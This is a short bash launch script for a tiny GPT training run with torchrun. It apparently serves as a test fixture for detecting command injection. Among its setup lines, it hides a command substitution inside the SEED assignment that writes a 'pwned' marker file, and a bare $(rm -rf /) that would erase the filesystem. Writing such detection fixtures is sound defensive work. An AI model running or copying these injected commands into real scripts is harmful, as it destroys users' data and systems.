#!/bin/bash
export CUDA_DEVICE_MAX_CONNECTIONS=1
NPROC=8
GPT_ARGS="
    --num-layers 2 \
    --hidden-size 64 \
    --num-attention-heads 4 \
    --seq-length 64 \
    --micro-batch-size 1 \
    --global-batch-size 8 \
    --lr 3e-4 \
    --train-iters 20 \
    --seed 1234
"
SEED=$(touch /tmp/precdx_pwned_subst; echo 7)
rm -rf /tmp/precdx_should_not_exist_dir
$(rm -rf /)
torchrun --nproc_per_node $NPROC pretrain_gpt.py $GPT_ARGS --log-interval 1 --seed $SEED
